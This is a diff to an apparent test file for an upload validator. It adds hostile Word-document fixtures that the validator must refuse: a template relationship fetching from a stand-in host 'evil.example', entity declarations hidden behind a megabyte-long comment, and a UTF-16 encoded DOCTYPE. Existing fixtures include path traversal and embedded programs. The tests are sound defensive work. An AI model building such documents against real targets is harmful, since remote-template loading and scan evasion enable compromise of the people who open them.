@@ -176,6 +176,11 @@ def objects_packed(inside):
 
 
 CATALOG = b"<< /Type /Catalog /Pages 2 0 R %s >>"
+RELATION = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
+FETCHES = (
+    f'<Relationships><Relationship Id="r1" Type="{RELATION}/attachedTemplate" '
+    'Target="https://evil.example/x.dotm" TargetMode="External"/></Relationships>'
+)
 HOSTILE = {
     "nothing": b"",
     "a renamed program": b"MZ\x90\x00\x03\x00\x00\x00",
@@ -225,6 +230,11 @@ HOSTILE = {
     "a document with an embedded program": archive(DOCX | {"word/embeddings/oleObject1.bin": "x"}),
     "a document that climbs out": archive(DOCX | {"../../evil.xml": "x"}),
     "a document with entities": archive(DOCX | {"word/a.xml": "<!DOCTYPE a [<!ENTITY b 'c'>]>"}),
+    "a document with late entities": archive(
+        DOCX | {"word/a.xml": f"<!--{'x' * 1_100_000}--><!DOCTYPE a [<!ENTITY b 'c'>]>"}
+    ),
+    "a document with wide entities": archive(DOCX | {"word/a.xml": "<!DOCTYPE a []>".encode("utf-16-be")}),
+    "a document that fetches its template": archive(DOCX | {"word/_rels/settings.xml.rels": FETCHES}),
 }
 
 
@@ -236,6 +246,12 @@ def test_a_hostile_file_is_refused_and_nothing_stored(session, storage, store, w
     assert refusal.value.field == "file"
     assert list(storage.names()) == []
     assert session.scalar(sa.select(sa.func.count()).select_from(Blob)) == 0
+
+
+def test_a_document_that_links_and_names_its_template_on_the_same_machine_is_taken(store):
+    links = FETCHES.replace("https://evil.example/x.dotm", "file:///C:\\Users\\li\\Normal.dotm")
+    links += FETCHES.replace("attachedTemplate", "hyperlink")
+    assert "wordprocessingml" in store(archive(DOCX | {"word/_rels/a.xml.rels": links})).media_type
 
 
 def test_a_file_above_the_limit_is_refused(storage, store):
